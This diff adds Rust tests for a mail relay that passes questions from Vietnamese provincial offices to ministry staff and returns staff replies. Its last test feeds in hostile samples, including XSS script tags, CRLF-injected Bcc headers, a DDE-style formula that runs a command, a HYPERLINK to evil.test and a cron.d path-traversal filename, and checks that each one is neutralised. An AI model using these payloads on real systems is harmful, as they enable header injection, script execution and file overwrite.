@@ -1,0 +1,233 @@
+//! Questions: they are passed on to staff, whose reply goes to who asked, from the office's address. Neither way is
+//! open to machines, and nothing that a stranger wrote does anything on its way.
+
+use crate::{
+    mail::Mail,
+    story::{Letter, MX, OFFICE, Office, Story, data},
+};
+use phuluc::store::audit;
+
+const STAFF: &str = "can-bo@mic.example";
+
+fn question(mail: Mail) -> Mail {
+    mail.subject("Hỏi về mục 4.1")
+        .text("Kính gửi Quý Bộ,\r\n\r\nMục 4.1 ghi số liệu của cả đơn vị trực thuộc hay không?\r\n\r\nTrân trọng.")
+        .message_id("<question@hanam.example>")
+}
+
+/// The reply of one of the staff to a letter, with what their program quotes of it.
+fn reply(mail: Mail, to: &Letter, words: &str) -> Mail {
+    let quoted: String = to.mail.text.lines().map(|line| format!("> {line}\r\n")).collect();
+    mail.from("Lê Thị Lan <can-bo@mic.example>")
+        .subject(&format!("Re: {}", to.row.subject))
+        .header("In-Reply-To", &to.row.message_id)
+        .text(&format!("{words}\r\n\r\nVào 09:00, 20/02/2023, Báo cáo <{OFFICE}> đã viết:\r\n{quoted}"))
+}
+
+#[tokio::test]
+async fn a_question_is_passed_on_and_its_answer_goes_to_who_asked() {
+    let mut story = Story::begin().await;
+    let raw = story.mail(question);
+    story.poll().await;
+    assert_eq!(story.outcome(), "question from ha-nam");
+    let letters = story.letters();
+    let to: Vec<(&str, &str)> = letters.iter().map(|l| (l.row.kind.as_str(), l.sent.to.as_str())).collect();
+    assert_eq!(to, [("note", "an@hanam.example"), ("forward", STAFF)]);
+    insta::assert_snapshot!(letters[0].words(), @r"
+    [BC1552] Đã nhận được nội dung trao đổi của Quý Cơ quan - Hà Nam
+
+    Kính gửi: Ủy ban nhân dân tỉnh Hà Nam
+
+    Bộ Thông tin và Truyền thông (Cục Chuyển đổi số quốc gia) đã nhận được thư
+    trao đổi của Quý Cơ quan lúc 09 giờ 00 phút ngày 20/02/2023 trong đợt báo
+    cáo theo Văn bản số 488/BTTTT-CĐSQG ngày 15/02/2023.
+
+    Thư đã được chuyển tới cán bộ phụ trách để xem xét, trả lời; nội dung trả
+    lời được gửi tới địa chỉ thư này.
+
+    Trân trọng cảm ơn sự phối hợp của Quý Cơ quan./.
+    ");
+    let forward = &letters[1];
+    insta::assert_snapshot!(forward.words(), @r"
+    [BC1552] Hà Nam hỏi: Hỏi về mục 4.1
+
+    === #1 ===
+    Đề nghị trả lời thư này, ghi nội dung phía trên dòng có mã nêu trên.
+
+    Kính gửi: Cán bộ phụ trách tiếp nhận báo cáo
+
+    Lúc 09 giờ 00 phút ngày 20/02/2023, Ủy ban nhân dân tỉnh Hà Nam gửi thư trao
+    đổi, không kèm báo cáo. Nội dung đồng chí ghi phía trên phần trích dẫn và
+    các tệp gửi kèm sẽ được chuyển tới người hỏi từ địa chỉ của cơ quan ta; địa
+    chỉ thư của đồng chí không được chuyển.
+
+    Người gửi: Nguyễn Văn An <an@hanam.example>
+    Tiêu đề: Hỏi về mục 4.1
+
+    Nội dung:
+
+    > Kính gửi Quý Bộ,
+    > Mục 4.1 ghi số liệu của cả đơn vị trực thuộc hay không?
+    > Trân trọng.
+
+    Thư gốc được gửi kèm thư này.
+
+    Trân trọng./.
+    ");
+    // The mail itself goes along, byte for byte.
+    let attached = &forward.mail.attachments[0];
+    assert_eq!((attached.declared_type.as_str(), attached.name.as_str()), ("message/rfc822", "BC1552_ha-nam_1.eml"));
+    assert_eq!(attached.bytes, raw);
+    assert_eq!(forward.header("auto-submitted").as_deref(), Some("auto-generated"));
+
+    story.at("2023-02-20 14:00:00");
+    story.mail(|mail| {
+        reply(
+            mail,
+            forward,
+            "Mục 4.1 ghi cả đơn vị trực thuộc.\r\nXem tại https://mic.example/huong-dan.\r\n\r\n--\r\nLan",
+        )
+        .file("Ví dụ.xlsx", data("layouts/numbers.xlsx"))
+    });
+    story.poll().await;
+    assert!(story.outcome().starts_with("staff"));
+    let answer = story.letter();
+    assert_eq!(answer.sent.to, "an@hanam.example");
+    insta::assert_snapshot!(answer.words(), @r"
+    [BC1552] Trả lời: Hỏi về mục 4.1 - Hà Nam
+
+    Kính gửi: Ủy ban nhân dân tỉnh Hà Nam
+
+    Về nội dung Quý Cơ quan trao đổi lúc 09 giờ 00 phút ngày 20/02/2023, Bộ
+    Thông tin và Truyền thông (Cục Chuyển đổi số quốc gia) trả lời như sau:
+
+    Mục 4.1 ghi cả đơn vị trực thuộc.
+
+    Xem tại https://mic.example/huong-dan.
+
+    Tệp gửi kèm: Ví dụ.xlsx.
+
+    Trường hợp cần trao đổi thêm, đề nghị Quý Cơ quan trả lời thư này.
+
+    Trân trọng./.
+    ");
+    assert_eq!(answer.header("in-reply-to").as_deref(), Some("<question@hanam.example>"));
+    assert_eq!(answer.mail.attachments[0].name, "Ví dụ.xlsx");
+    assert_eq!(answer.mail.attachments[0].bytes, data("layouts/numbers.xlsx"));
+    let sent = String::from_utf8_lossy(&answer.sent.raw).into_owned();
+    for theirs in [STAFF, "Lan", &forward.row.message_id] {
+        assert!(!sent.contains(theirs) && !answer.mail.text.contains(theirs), "{theirs} is nobody's business");
+    }
+    let noted = audit::list(&story.desk.store, Some("message:1")).await.unwrap();
+    assert_eq!((noted[0].actor.as_str(), noted[0].act.as_str()), ("mail:can-bo@mic.example", "question answer"));
+    story.end().await;
+}
+
+#[tokio::test]
+async fn each_reply_passes_once_and_no_machine_passes() {
+    let mut story = Story::begin().await;
+    story.mail(question);
+    story.poll().await;
+    story.message();
+    let forward = story.letters().remove(1);
+    // Out of office, told by a header or by the beginning of the subject.
+    story.mail(|mail| reply(mail, &forward, "Tôi đi công tác.").header("Auto-Submitted", "auto-replied"));
+    story.mail(|mail| reply(mail, &forward, "Tôi đi công tác.").subject("Automatic reply: [BC1552] Hà Nam hỏi"));
+    story.mail(|mail| reply(mail, &forward, "Tôi đi công tác.").header("X-Auto-Response-Suppress", "All"));
+    story.poll().await;
+    story.messages();
+    story.no_letter();
+    // Two answers are two; the same words again are one.
+    for (number, words) in ["Có.", "Xin bổ sung: kể cả trung tâm.", "Có."].into_iter().enumerate() {
+        story.mail(|mail| reply(mail, &forward, words).message_id(&format!("<{number}@mic.example>")));
+    }
+    story.poll().await;
+    story.messages();
+    assert_eq!(story.letters().len(), 2);
+    // Nothing to pass on, or too much: staff are told.
+    for (change, told) in [
+        (&(|mail: Mail| mail) as &dyn Fn(Mail) -> Mail, "không tìm thấy nội dung trả lời"),
+        (&|mail| mail.file_of("a.bin", "application/octet-stream", vec![7; 11 << 20]), "vượt quá 10 MB"),
+        (&|mail| mail.file_of("a.eml", "message/rfc822", b"From: a@b.example\r\n\r\nx".to_vec()), "kèm một thư khác"),
+        (&|mail| mail.text("Giả mạo").results(&format!("{MX}; dmarc=fail")), "chưa xác thực được"),
+    ] {
+        story.mail(|mail| change(reply(mail, &forward, "")).message_id(&format!("<{}@mic.example>", told.len())));
+        story.poll().await;
+        story.message();
+        let letter = story.letter();
+        assert_eq!(letter.sent.to, STAFF);
+        assert!(letter.said().contains(told), "{}", letter.words());
+    }
+    // Who is not of the staff cannot answer for the office.
+    story.mail(|mail| reply(mail, &forward, "Có.").from("x@nghean.example").message_id("<x@nghean.example>"));
+    story.poll().await;
+    story.message();
+    assert!(story.letters().iter().all(|letter| letter.row.kind.as_str() != "answer"));
+    story.end().await;
+}
+
+#[tokio::test]
+async fn a_machine_that_asks_without_end_fills_nobodys_mailbox() {
+    let mut story = Story::begin().await;
+    for number in 0..15 {
+        story.mail(|mail| {
+            question(mail).message_id(&format!("<{number}@hanam.example>")).text(&format!("Hỏi {number}"))
+        });
+    }
+    story.poll().await;
+    let limited = story.messages().iter().filter(|m| m.rule.as_ref().is_some_and(|r| r.contains("questions"))).count();
+    assert_eq!(limited, 5);
+    let kinds: Vec<&str> = story.letters().iter().map(|letter| letter.row.kind.as_str()).collect();
+    assert_eq!(kinds.iter().filter(|kind| **kind == "forward").count(), 10);
+    assert_eq!(kinds.iter().filter(|kind| **kind == "note").count(), 1);
+    story.end().await;
+}
+
+#[tokio::test]
+async fn without_staff_a_question_is_kept_and_nothing_promised() {
+    let mut story = Story::begin_with(Office { keys: vec![("staff", "staff = []")], ..Office::default() }).await;
+    story.mail(question);
+    story.poll().await;
+    assert_eq!(story.outcome(), "question from ha-nam");
+    story.no_letter();
+    story.end().await;
+}
+
+#[tokio::test]
+async fn hostile_words_do_nothing_in_a_question_that_is_passed_on() {
+    let mut story = Story::begin().await;
+    story.mail(|mail| {
+        question(mail)
+            .from("\"><script>alert(1)</script> <an@hanam.example>")
+            .subject("<img src=x onerror=alert(1)>\r\nBcc: x@evil.test =cmd|' /C calc'!A0")
+            .text("<script>alert(1)</script>\r\n=HYPERLINK(\"http://evil.test\")\r\nhttp://evil.test/x\r\n{{ 7*7 }}")
+            .file_of("../../../etc/cron.d/x\r\nBcc: y@evil.test.png", "image/png", data("unreadable/picture.png"))
+    });
+    story.poll().await;
+    story.message();
+    let letters = story.letters();
+    for letter in &letters {
+        assert_eq!(letter.header("bcc"), None);
+        let head = String::from_utf8(letter.sent.raw.clone()).unwrap();
+        assert!(!head.split("\r\n\r\n").next().unwrap().to_lowercase().contains("\r\nbcc:"), "{head}");
+    }
+    let forward = letters.last().unwrap();
+    assert_eq!(forward.sent.to, STAFF);
+    let parsed = mail_parser::MessageParser::default().parse(&forward.sent.raw).unwrap();
+    let html = parsed.body_html(0).unwrap();
+    for live in ["<script", "<img", "onerror=alert(1)>", "http://evil.test", "href"] {
+        assert!(!html.contains(live), "{live}: {html}");
+    }
+    assert!(html.contains("{{ 7*7 }}") && html.contains("&lt;script&gt;"), "{html}");
+    let text = parsed.body_text(0).unwrap();
+    assert!(!text.contains("http://evil.test"), "{text}");
+    // What staff answer is about the same subject.
+    story.mail(|mail| reply(mail, forward, "Có."));
+    story.poll().await;
+    story.message();
+    let answer = story.letter();
+    assert_eq!((answer.header("bcc"), answer.sent.to.as_str()), (None, "an@hanam.example"));
+    let parsed = mail_parser::MessageParser::default().parse(&answer.sent.raw).unwrap();
+    assert!(!parsed.body_html(0).unwrap().contains("<img"));
+    story.end().await;
+}
